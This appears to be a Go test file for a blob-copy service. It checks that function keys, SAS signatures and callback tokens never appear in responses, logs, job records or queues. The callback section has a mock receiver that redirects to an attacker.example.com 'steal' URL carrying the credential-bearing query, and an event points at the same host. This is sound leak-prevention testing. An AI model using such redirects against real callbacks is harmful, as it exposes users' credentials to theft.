package app_test

import (
	"bytes"
	"context"
	"encoding/json"
	"fmt"
	"io"
	"net/http"
	"net/http/httptest"
	"strings"
	"testing"
	"time"

	"github.com/Azure/azure-sdk-for-go/sdk/azcore"
	"github.com/Azure/azure-sdk-for-go/sdk/azcore/policy"

	"github.com/blobcopy/blobcopy/internal/app"
	"github.com/blobcopy/blobcopy/internal/azstorage"
	"github.com/blobcopy/blobcopy/internal/funchost"
	"github.com/blobcopy/blobcopy/internal/redact"
	"github.com/blobcopy/blobcopy/internal/testenv/copysim"
)

// Distinctive secret values, one per kind, so a scan finds them wherever they land.
const (
	secretFunctionKey = "FUNCKEY-0b1c2d3e4f5a6b7c"
	secretAccountSAS  = "ACCOUNTSASSIG0b1c2d3e4f"
	secretServiceSAS  = "SERVICESASSIG0b1c2d3e4f"
	secretUDSAS       = "UDSASSIG0b1c2d3e4f5a6b"
	secretUDObjectID  = "ud0b1c2d-3e4f-5a6b-7c8d-9e0f1a2b3c4d"
	secretCBToken     = "CBTOKEN0b1c2d3e4f5a6b"
	secretCBLogicSig  = "CBLOGICSIG0b1c2d3e4f"
)

// TestNoSecretComesBack triggers every failure path the HTTP, event and callback layers
// reach with a credential in play (wrong and missing keys, refused sources and
// callbacks, storage refusing a caller's service SAS, user-delegation SAS and an
// account configured with an account SAS, events naming foreign URLs, webhook sources
// outside their rule, callbacks answered with 500, a redirect, or not at all, a timer
// invocation with ?code=) and scans every answer (bodies and headers), every log line,
// every job record, the poison queue and the invocations' Logs for each secret kind:
// account key, account SAS, service SAS, user-delegation SAS, function key, callback
// token.
func TestNoSecretComesBack(t *testing.T) {
	rules := `[{"name":"uploads","sourceAccount":"devstoreaccount1","sourceContainer":"uploads","destination":{"container":"mirror"}}]`
	h := newHarness(t, map[string]string{
		"BLOBCOPY_FUNCTION_KEYS":      secretFunctionKey,
		"COPY_RULES":                  rules,
		"COPY_CALLBACK_ALLOWED_HOSTS": "127.0.0.1",
		"COPY_MAX_CALLBACK_ATTEMPTS":  "2",
		"COPY_CALLBACK_SECRET":        "whsec_MfKQ9r8GKYqrTwjUPD8ILPZIo2LaLaSw",
	})
	acct2 := h.az.BlobEndpoint("acct2")
	// An account configured with an account SAS whose signature storage refuses.
	h2 := h.withSASAccount(t, "BlobEndpoint="+acct2+";SharedAccessSignature=sv=2021-08-06&ss=b&srt=sco&sp=rwdlac&se=2030-01-01T00:00:00Z&spr=https,http&sig="+secretAccountSAS)

	var answers bytes.Buffer
	keyed := map[string]string{"x-functions-key": secretFunctionKey}
	call := func(srv string, method, path string, body any, hdr map[string]string) response {
		t.Helper()
		r := h.doAt(srv, method, path, body, hdr)
		// The request's own query (a key the test sent) is not part of the answer.
		route, _, _ := strings.Cut(path, "?")
		fmt.Fprintf(&answers, "%s %s -> %d %v %s\n", method, route, r.status, r.header, r.body)
		return r
	}
	srv := h.srv.URL
	expect := func(r response, status int, what string) {
		t.Helper()
		if r.status != status {
			t.Errorf("%s: %d %s, want %d", what, r.status, r.body, status)
		}
	}

	// Keys: missing, wrong, in the query of a failing request.
	expect(call(srv, http.MethodPost, "/api/copies", `{}`, nil), 401, "no key")
	expect(call(srv, http.MethodGet, "/api/copies?code=wrong-"+secretFunctionKey[:4], nil, nil), 401, "wrong key")
	expect(call(srv, http.MethodPost, "/api/copies?code="+secretFunctionKey, `{"source":`, nil), 400, "bad JSON, key in the query")

	// Sources carrying a SAS, refused by policy or by storage.
	serviceSAS := "?sv=2021-08-06&sr=b&sp=r&se=2030-01-01T00:00:00Z&sig=" + secretServiceSAS
	udSAS := "?sv=2021-08-06&sr=b&sp=r&skoid=" + secretUDObjectID + "&sktid=" + secretUDObjectID +
		"&skt=2026-01-01T00:00:00Z&ske=2030-01-01T00:00:00Z&sks=b&skv=2021-08-06&se=2030-01-01T00:00:00Z&sig=" + secretUDSAS
	h.upload("acct2", "src", "present.txt", []byte("data"))
	copyReq := func(source, account, blob string, extra map[string]any) map[string]any {
		req := map[string]any{"source": source, "destination": map[string]any{"account": account, "container": "backup", "blob": blob}}
		for k, v := range extra {
			req[k] = v
		}
		return req
	}
	call(srv, http.MethodPost, "/api/copies", copyReq("http://example.com/a.txt"+serviceSAS, "", "a.txt", nil), keyed)
	call(srv, http.MethodPost, "/api/copies", copyReq(acct2+"/src/missing.txt"+serviceSAS, "", "svc-missing.txt", nil), keyed)
	call(srv, http.MethodPost, "/api/copies", copyReq(acct2+"/src/present.txt"+serviceSAS, "", "svc-badsig.txt", nil), keyed)
	call(srv, http.MethodPost, "/api/copies", copyReq(acct2+"/src/present.txt"+udSAS, "", "ud-badsig.txt", map[string]any{"leaseSource": true}), keyed)
	call(srv, http.MethodPost, "/api/copies", copyReq(acct2+"/src/present.txt"+udSAS, "", "ud-sync.txt", map[string]any{"requiresSync": true}), keyed)
	// The account configured with a refused account SAS, as destination and as source.
	call(h2.srv.URL, http.MethodPost, "/api/copies", copyReq(h.az.BlobEndpoint("devstoreaccount1")+"/uploads/none.txt", "sasacct", "via-sas.txt", nil), keyed)
	call(h2.srv.URL, http.MethodPost, "/api/copies", copyReq(acct2+"/src/present.txt", "", "from-sas.txt", map[string]any{"leaseSource": true}), keyed)

	// Callbacks: a host not allowed, and receivers that fail, redirect or are gone.
	cbQuery := "?token=" + secretCBToken + "&sig=" + secretCBLogicSig + "&code=" + secretFunctionKey
	call(srv, http.MethodPost, "/api/copies", copyReq(acct2+"/src/present.txt", "", "cb-denied.txt",
		map[string]any{"callbackUrl": "https://hooks.example.net/cb" + cbQuery}), keyed)
	failing := httptest.NewServer(http.HandlerFunc(func(w http.ResponseWriter, r *http.Request) {
		http.Error(w, "echo "+r.URL.RawQuery, http.StatusInternalServerError)
	}))
	defer failing.Close()
	redirecting := httptest.NewServer(http.HandlerFunc(func(w http.ResponseWriter, r *http.Request) {
		http.Redirect(w, r, "https://attacker.example.com/steal?"+r.URL.RawQuery, http.StatusTemporaryRedirect)
	}))
	defer redirecting.Close()
	gone := httptest.NewServer(http.NotFoundHandler())
	goneURL := gone.URL
	gone.Close()
	h.sim.PutBlob(simAccount, "src", "cb.bin", []byte("callback me"), nil)
	var cbJobs []string
	for i, receiver := range []string{failing.URL, redirecting.URL, goneURL} {
		blob := fmt.Sprintf("cb-%d.bin", i)
		r := call(srv, http.MethodPost, "/api/copies", copyReq(h.sim.AccountEndpoint(simAccount)+"/src/cb.bin", "sim", blob,
			map[string]any{"callbackUrl": receiver + "/done" + cbQuery}), keyed)
		if r.status != http.StatusAccepted {
			t.Fatalf("callback copy %d: %d %s", i, r.status, r.body)
		}
		cbJobs = append(cbJobs, r.job(t).ID)
		if err := h.sim.Complete(simAccount, "backup", blob); err != nil {
			t.Logf("complete %s: %v", blob, err)
		}
	}

	// Event Grid: foreign data.url with a SAS, a missing blob, and the webhook form.
	h.upload("devstoreaccount1", "uploads", "in.txt", []byte("x"))
	events := fmt.Sprintf(`[%s,%s]`,
		eventJSON("foreign", "uploads", "in.txt", "https://attacker.example.com/x.txt"+serviceSAS),
		eventJSON("missing", "uploads", "missing.txt", h.az.BlobEndpoint("devstoreaccount1")+"/uploads/missing.txt"))
	call(srv, http.MethodPost, "/api/copies?code="+secretFunctionKey, events, map[string]string{"aeg-event-type": "Notification"})
	call(srv, http.MethodPost, "/api/copies", map[string]any{"rule": "uploads", "source": acct2 + "/src/present.txt" + serviceSAS}, keyed)
	call(srv, http.MethodPost, "/api/copies", map[string]any{"rule": "uploads", "source": h.az.BlobEndpoint("devstoreaccount1") + "/uploads/gone.txt" + udSAS}, keyed)

	// Ticks as the host invokes them (key in the query), until the callbacks gave up.
	var invocationLogs []string
	deadline := time.Now().Add(30 * time.Second)
	for {
		logs := h.timerAt(srv, "/statusfn?code="+secretFunctionKey)
		invocationLogs = append(invocationLogs, logs...)
		settled := 0
		for _, id := range cbJobs {
			if cb := h.record(id).Callback; cb != nil && (cb.GaveUp || cb.DeliveredAt != nil) {
				settled++
			}
		}
		if settled == len(cbJobs) || time.Now().After(deadline) {
			break
		}
		time.Sleep(300 * time.Millisecond)
	}
	for _, id := range cbJobs {
		r := call(srv, http.MethodGet, "/api/copies/"+id, nil, keyed)
		var v struct {
			Callback struct {
				URL, LastError string
				Attempts       int
			}
		}
		decodeJSON(t, r.body, &v)
		if v.Callback.Attempts == 0 || v.Callback.LastError == "" || !strings.Contains(v.Callback.URL, "token=REDACTED") {
			t.Errorf("callback job %s: %+v", id, v.Callback)
		}
	}
	call(srv, http.MethodGet, "/api/copies?limit=1000", nil, keyed)

	if testing.Verbose() {
		t.Logf("answers:\n%s", answers.String())
	}

	// Scan, once the lines and work left behind the answers have landed.
	h.app.Copies.Wait()
	texts := map[string]string{
		"answers":         answers.String(),
		"logs":            h.logs.String(),
		"records":         h.allRecords(),
		"poison queue":    h.poisonText(),
		"invocation Logs": strings.Join(invocationLogs, "\n"),
	}
	secrets := map[string]string{
		"account key (devstoreaccount1)": h.az.Key("devstoreaccount1"),
		"account key (acct2)":            h.az.Key("acct2"),
		"account key (simulator)":        copysim.AccountKey,
		"account SAS":                    secretAccountSAS,
		"service SAS":                    secretServiceSAS,
		"user-delegation SAS":            secretUDSAS,
		"user-delegation key object id":  secretUDObjectID,
		"function key":                   secretFunctionKey,
		"callback token":                 secretCBToken,
		"callback sig":                   secretCBLogicSig,
	}
	for where, text := range texts {
		if text == "" && where != "poison queue" {
			t.Errorf("%s: nothing to scan", where)
		}
		for kind, secret := range secrets {
			if i := strings.Index(text, secret); secret != "" && i >= 0 {
				t.Errorf("%s hold the %s: ...%s...", where, kind, text[max(0, i-120):min(len(text), i+40)])
			}
		}
		for _, rest := range strings.Split(text, "sig=")[1:] {
			if !strings.HasPrefix(rest, redact.Placeholder) {
				t.Errorf("%s hold an unredacted signature: ...sig=%.20s", where, rest)
			}
		}
	}
}

func eventJSON(id, container, blob, dataURL string) string {
	return fmt.Sprintf(`{"topic":"/subscriptions/s/resourceGroups/rg/providers/Microsoft.Storage/storageAccounts/devstoreaccount1",
"subject":"/blobServices/default/containers/%s/blobs/%s","eventType":"Microsoft.Storage.BlobCreated","eventTime":"2026-11-30T10:00:00Z",
"id":%q,"data":{"api":"PutBlob","requestId":"r","eTag":"0x8DD0000000001","contentType":"text/plain","contentLength":1,"blobType":"BlockBlob","url":%q,"sequencer":"01"},
"dataVersion":"","metadataVersion":"1"}`, container, blob, id, dataURL)
}

// sasHarness is a second app on the same storage with an extra account configured by an
// account SAS (alias sasacct).
type sasHarness struct {
	app *app.App
	srv *httptest.Server
}

func (h *harness) withSASAccount(t *testing.T, conn string) *sasHarness {
	t.Helper()
	values := h.app.Settings.WithPrefix("")
	values["COPY_ACCOUNT_SASACCT"] = conn
	storage := azstorage.Options{ClientOptions: azcore.ClientOptions{Retry: policy.RetryOptions{
		MaxRetries: 1, RetryDelay: 20 * time.Millisecond, MaxRetryDelay: 100 * time.Millisecond, TryTimeout: 10 * time.Second}}}
	a, err := app.New(repoRoot(t), funchost.NewSettings(values), app.Options{Logger: h.app.Log, Storage: storage})
	if err != nil {
		t.Fatalf("app with a SAS account: %v", err)
	}
	srv := httptest.NewServer(a.Handler())
	t.Cleanup(srv.Close)
	return &sasHarness{app: a, srv: srv}
}

// doAt is h.do against another server of the same storage.
func (h *harness) doAt(base, method, path string, body any, header map[string]string) response {
	h.t.Helper()
	var rd io.Reader
	switch b := body.(type) {
	case nil:
	case string:
		rd = strings.NewReader(b)
	default:
		j, _ := json.Marshal(b)
		rd = bytes.NewReader(j)
	}
	req, err := http.NewRequest(method, base+path, rd)
	if err != nil {
		h.t.Fatal(err)
	}
	if body != nil {
		req.Header.Set("Content-Type", "application/json")
	}
	for k, v := range header {
		req.Header.Set(k, v)
	}
	resp, err := http.DefaultClient.Do(req)
	if err != nil {
		h.t.Fatalf("%s %s: %v", method, path, err)
	}
	defer resp.Body.Close()
	b, _ := io.ReadAll(resp.Body)
	return response{status: resp.StatusCode, header: resp.Header, body: b}
}

// timerAt invokes statusfn at path and returns the invocation's Logs.
func (h *harness) timerAt(base, path string) []string {
	h.t.Helper()
	r := h.doAt(base, http.MethodPost, path, `{"Data":{"timer":{"Schedule":{"AdjustForDST":true},"IsPastDue":false}},"Metadata":{}}`, nil)
	if r.status != http.StatusOK && r.status != http.StatusInternalServerError {
		h.t.Fatalf("timer: %d %s", r.status, r.body)
	}
	var out struct{ Logs []string }
	_ = json.Unmarshal(r.body, &out)
	return out.Logs
}

// allRecords is the text of every job record, without the callback URLs: the record
// keeps the receiver's full URL (its credential is in the query) to call it, and never
// shows it.
func (h *harness) allRecords() string {
	var b strings.Builder
	c := h.blobClient("devstoreaccount1")
	pager := c.NewListBlobsFlatPager(app.DefaultRecords, nil)
	for pager.More() {
		page, err := pager.NextPage(context.Background())
		if err != nil {
			break
		}
		for _, it := range page.Segment.BlobItems {
			r, err := c.DownloadStream(context.Background(), app.DefaultRecords, *it.Name, nil)
			if err == nil {
				x, _ := io.ReadAll(r.Body)
				r.Body.Close()
				var rec map[string]any
				if json.Unmarshal(x, &rec) == nil {
					if cb, ok := rec["callback"].(map[string]any); ok {
						cb["url"] = "(kept for delivery)"
					}
					x, _ = json.Marshal(rec)
				}
				b.Write(x)
				b.WriteByte('\n')
			}
		}
	}
	return b.String()
}

func (h *harness) poisonText() string {
	var b strings.Builder
	for _, e := range h.poisonEntries() {
		fmt.Fprintf(&b, "%s %s\n", e.Message, e.Reason)
	}
	return b.String()
}
